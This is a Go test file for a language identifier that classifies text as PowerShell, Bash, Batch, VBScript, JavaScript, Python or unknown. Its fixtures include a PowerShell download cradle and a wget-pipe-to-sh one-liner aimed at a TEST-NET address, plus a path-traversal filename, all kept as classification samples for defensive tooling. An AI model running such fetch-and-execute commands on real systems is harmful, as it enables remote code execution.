package lang

import (
	"encoding/json"
	"strings"
	"testing"
)

// Fixtures written for these tests. Network addresses are TEST-NET or
// .example/.invalid; nothing here is a working payload.

var unknownFixtures = []struct{ name, text string }{
	{"html page", `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Quarterly report</title>
<script>window.dataLayer = window.dataLayer || [];</script></head>
<body><h1>Results</h1><p>Revenue grew in every region.</p></body>
</html>`},
	{"html fragment", `<div class="card">
  <h2>Welcome back</h2>
  <p>Your order <b>#1042</b> ships tomorrow. <a href="https://shop.example/orders">Track it</a>.</p>
  <ul><li>Blue mug</li><li>Notebook</li></ul>
</div>`},
	{"english prose", `The committee met on Tuesday to review the proposal for the new community garden.
After a long discussion, most members agreed that the north corner of the park gets the
best light, although some worried about drainage during the spring rains. The treasurer
will prepare a budget before the next meeting, and volunteers are welcome to sign up.`},
	{"short prose", "Thanks for the update, I will look at it tomorrow morning."},
	{"json", `{"name": "inventory", "version": 3, "items": [{"id": 1, "sku": "A-100", "qty": 12}, {"id": 2, "sku": "B-220", "qty": 0}], "active": true}`},
	{"json array", "[\n  {\"city\": \"Lisbon\", \"temp\": 21.5},\n  {\"city\": \"Oslo\", \"temp\": 8.0}\n]\n"},
	{"xml", `<?xml version="1.0" encoding="UTF-8"?>
<catalog>
  <book id="b1"><title>Rivers of the North</title><price currency="EUR">12.50</price></book>
  <book id="b2"><title>Quiet Engines</title><price currency="EUR">9.90</price></book>
</catalog>`},
	{"csv", "date,region,units,revenue\n2024-01-01,north,120,3400.50\n2024-01-02,south,98,2710.00\n2024-01-03,east,143,4022.75\n2024-01-04,west,87,2301.10\n"},
	{"ini", "[server]\nhost = files.example\nport = 8443\ntimeout = 30\n\n[logging]\nlevel = info\npath = /var/log/app.log\nrotate = true\n"},
	{"yaml", "service:\n  name: ledger\n  replicas: 3\n  ports:\n    - 8080\n    - 8443\n  env:\n    LOG_LEVEL: debug\n    REGION: eu-west\n"},
	{"c source", `#include <stdio.h>
#include <stdlib.h>

static int sum(const int *v, size_t n) {
    int total = 0;
    for (size_t i = 0; i < n; i++) {
        total += v[i];
    }
    return total;
}

int main(int argc, char **argv) {
    int values[] = {3, 5, 8};
    printf("%d\n", sum(values, 3));
    return EXIT_SUCCESS;
}
`},
	{"go source", `package main

import (
	"fmt"
	"os"
)

type counter struct{ n int }

func (c *counter) add(d int) { c.n += d }

func main() {
	var c counter
	for i := 0; i < 10; i++ {
		c.add(i)
	}
	if _, err := fmt.Fprintln(os.Stdout, c.n); err != nil {
		os.Exit(1)
	}
}
`},
	{"java source", `package com.example.billing;

import java.util.ArrayList;
import java.util.List;

public class Invoice {
    private final List<Line> lines = new ArrayList<>();

    public void add(Line line) {
        lines.add(line);
    }

    public static void main(String[] args) {
        Invoice inv = new Invoice();
        System.out.println("lines: " + inv.lines.size());
    }
}
`},
	{"php source", `<?php
namespace App\Http;

class Greeter
{
    public function greet(string $name): string
    {
        return sprintf("Hello, %s!", htmlspecialchars($name));
    }
}

$g = new Greeter();
echo $g->greet($_GET['name'] ?? 'world');
`},
	{"perl source", `#!/usr/bin/perl
use strict;
use warnings;

my %seen;
my @words = qw(apple pear apple plum);
foreach my $w (@words) {
    $seen{$w}++;
}
for my $k (sort keys %seen) {
    print "$k: $seen{$k}\n";
}
`},
	{"perl without shebang", `use strict;
use warnings;
my $file = shift @ARGV or die "usage: $0 FILE\n";
open(my $fh, '<', $file) or die "cannot open $file: $!";
while (my $line = <$fh>) {
    chomp $line;
    next unless $line =~ /^\s*(\w+)\s*=\s*(.*)$/;
    print "$1 -> $2\n";
}
close $fh;
`},
	{"ruby source", `require 'json'

class Shelf
  attr_reader :books

  def initialize
    @books = []
  end

  def add(title, year)
    @books << { title: title, year: year }
    self
  end
end

shelf = Shelf.new.add('Dune', 1965).add('Emma', 1815)
shelf.books.each do |b|
  puts "#{b[:title]} (#{b[:year]})"
end
`},
	{"binary junk", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00@\x00\x01\x02\x03\x04\x05\x06\x07\x08"},
	{"decoded junk", strings.Repeat("\x01\x02\ufffd\x7f\x03a", 40)},
	{"empty", ""},
	{"whitespace", " \n\t\r\n   \n"},
}

func TestIdentifyUnknown(t *testing.T) {
	for _, tc := range unknownFixtures {
		t.Run(tc.name, func(t *testing.T) {
			got := Identify(tc.text, "")
			if got.Language != Unknown {
				t.Errorf("Identify: got %v (%.2f, %v), want unknown", got.Language, got.Confidence, got.Evidence)
			}
			if got.Confidence < 0 || got.Confidence > 1 {
				t.Errorf("confidence: got %v, want 0..1", got.Confidence)
			}
		})
	}
}

var languageFixtures = []struct {
	name string
	text string
	want Language
}{
	{"powershell download cradle", "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", PowerShell},
	{"bash pipe to sh", "wget http://192.0.2.1/x -O- | sh", Bash},
	{"powershell script", `param([string]$Path = "C:\Temp")
$files = Get-ChildItem -Path $Path -Filter *.log -Recurse
foreach ($f in $files) {
    if ($f.Length -gt 1MB) {
        Write-Host "large: $($f.FullName)"
    }
}
`, PowerShell},
	{"batch script", `@echo off
setlocal enabledelayedexpansion
set LOG=%~dp0install.log
if not exist "%ProgramData%\Tool" mkdir "%ProgramData%\Tool"
for %%f in (*.txt) do (
    echo processing %%f >> "%LOG%"
)
if %errorlevel% neq 0 goto :fail
exit /b 0
:fail
echo failed
`, Batch},
	{"vbscript", `Option Explicit
Dim fso, folder, file
Set fso = CreateObject("Scripting.FileSystemObject")
Set folder = fso.GetFolder("C:\Temp")
For Each file In folder.Files
    If fso.GetExtensionName(file.Path) = "tmp" Then
        WScript.Echo file.Name
    End If
Next
`, VBScript},
	{"javascript", `const fs = require('fs');
function readConfig(path) {
  const raw = fs.readFileSync(path, 'utf8');
  return JSON.parse(raw);
}
module.exports = { readConfig };
`, JavaScript},
	{"jscript", `var sh = new ActiveXObject("WScript.Shell");
var env = sh.Environment("PROCESS");
WScript.Echo(env("TEMP"));
`, JavaScript},
	{"bash script", `#!/bin/bash
set -euo pipefail
for f in /var/log/*.log; do
  if [ -s "$f" ]; then
    echo "$f"
  fi
done
case "$1" in
  start) echo starting ;;
  *) exit 1 ;;
esac
`, Bash},
	{"bash without shebang", `cd /tmp || exit 1
curl -fsSL https://files.example/setup.tar.gz -o setup.tar.gz
tar xzf setup.tar.gz && chmod +x setup/run
if [ -x setup/run ]; then ./setup/run; fi
`, Bash},
	{"python", `import os
import sys

def walk(root):
    for dirpath, _, names in os.walk(root):
        for n in names:
            yield os.path.join(dirpath, n)

if __name__ == "__main__":
    for p in walk(sys.argv[1]):
        print(p)
`, Python},
	{"python shebang one-liner", "#!/usr/bin/env python3\nprint('hi')\n", Python},
}

func TestIdentifyLanguages(t *testing.T) {
	for _, tc := range languageFixtures {
		t.Run(tc.name, func(t *testing.T) {
			got := Identify(tc.text, "")
			if got.Language != tc.want {
				t.Errorf("Identify: got %v (%.2f, %v), want %v", got.Language, got.Confidence, got.Evidence, tc.want)
			}
			if len(got.Evidence) == 0 {
				t.Errorf("evidence: got none, want reasons")
			}
		})
	}
}

func TestIdentifyNameIsOnlyAHint(t *testing.T) {
	ps := languageFixtures[2].text
	tests := []struct {
		name, file string
		text       string
		want       Language
	}{
		{"content beats a wrong extension", "report.py", ps, PowerShell},
		{"extension shows in evidence", "clean.ps1", ps, PowerShell},
		{"hostile name", strings.Repeat("../", 200) + "\x00\xff.ps1", ps, PowerShell},
		{"extension alone does not make prose a script", "notes.bat", unknownFixtures[2].text, Unknown},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Identify(tc.text, tc.file)
			if got.Language != tc.want {
				t.Errorf("Identify: got %v (%v), want %v", got.Language, got.Evidence, tc.want)
			}
		})
	}
	got := Identify(ps, "clean.ps1")
	if !contains(got.Evidence, "extension .ps1") {
		t.Errorf("evidence: got %q, want it to include %q", got.Evidence, "extension .ps1")
	}
}

func TestIdentifyShebangEvidence(t *testing.T) {
	got := Identify("#!/bin/sh\necho hello\n", "")
	if got.Language != Bash || !contains(got.Evidence, "shebang #!sh") {
		t.Errorf("got %v %q, want bash with evidence %q", got.Language, got.Evidence, "shebang #!sh")
	}
}

func TestResultJSON(t *testing.T) {
	b, err := json.Marshal(Identify("Write-Host hello; Get-Process | Stop-Process", ""))
	if err != nil {
		t.Fatal(err)
	}
	var back struct {
		Name       string   `json:"name"`
		Confidence float64  `json:"confidence"`
		Evidence   []string `json:"evidence"`
	}
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if back.Name != "powershell" {
		t.Errorf("name: got %q, want powershell (json %s)", back.Name, b)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func BenchmarkIdentify(b *testing.B) {
	// About 5 KB of script.
	text := strings.Repeat(languageFixtures[2].text+languageFixtures[3].text, 12)[:5000]
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	for b.Loop() {
		Identify(text, "sample.bin")
	}
}

func FuzzIdentify(f *testing.F) {
	for _, tc := range languageFixtures {
		f.Add(tc.text, "")
	}
	for _, tc := range unknownFixtures {
		f.Add(tc.text, "x.ps1")
	}
	f.Fuzz(func(t *testing.T, text, name string) {
		r := Identify(text, name)
		if l := LanguageOf(text); l != Identify(text, "").Language {
			t.Fatalf("LanguageOf = %v, Identify without a name = %v", l, Identify(text, "").Language)
		}
		if r.Confidence < 0 || r.Confidence > 1 || r.Confidence != r.Confidence {
			t.Fatalf("confidence %v out of range", r.Confidence)
		}
		if int(r.Language) >= len(names) {
			t.Fatalf("language %d out of range", r.Language)
		}
	})
}
